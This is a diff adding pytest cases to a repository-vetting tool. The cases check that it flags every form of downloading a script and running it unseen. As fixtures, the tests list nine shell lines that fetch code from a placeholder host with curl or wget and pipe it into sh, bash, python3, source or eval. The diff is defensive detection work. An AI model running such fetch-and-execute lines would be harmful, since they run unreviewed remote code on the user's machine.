@@ -9,6 +9,8 @@ import zipfile
 from collections.abc import Callable
 from pathlib import Path
 
+import pytest
+
 from forkvet.report import Report
 
 Vet = Callable[..., Report]
@@ -179,3 +181,35 @@ def test_an_unlocked_annex_pointer_and_dvc_lock_outputs_are_unverified(vet_repo:
     kinds = _kinds(report)
     assert kinds["annex-pointer"] == ["model.pt"]
     assert kinds["dvc-pointer"] == ["models/model.pkl"]  # never its deps (train.py)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "bash <(curl -s https://x.example/i.sh)",
+        'sh -c "$(curl -fsSL https://x.example/install.sh)"',
+        "curl https://x.example/s.py | python3 -",
+        "source <(curl https://x.example/env)",
+        ". <(wget -qO- https://x.example/env)",
+        'eval "$(curl https://x.example/s)"',
+        "curl https://x.example/s | tee s.sh | sh",
+        "curl https://x.example/s | /bin/sh",
+        "curl https://x.example/s | env bash",
+    ],
+)
+def test_every_form_of_running_a_download_unseen_is_named(vet_repo: Vet, line: str) -> None:
+    # Round 14a F13: only `curl … | sh` and its near spellings were found.
+    report = vet_repo({"setup.sh": line + "\n", "run.py": f"import os\nos.system({line!r})\n"})
+    assert sorted(_kinds(report)["curl-pipe-shell"]) == ["run.py", "setup.sh"]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "VERSION=$(curl -s https://x.example/v)",
+        "curl https://x.example/d.tgz | tar xz",
+        "curl u | jq .",
+    ],
+)
+def test_downloads_that_run_nothing_are_not_named(vet_repo: Vet, line: str) -> None:
+    assert "curl-pipe-shell" not in _kinds(vet_repo({"setup.sh": line + "\n"}))
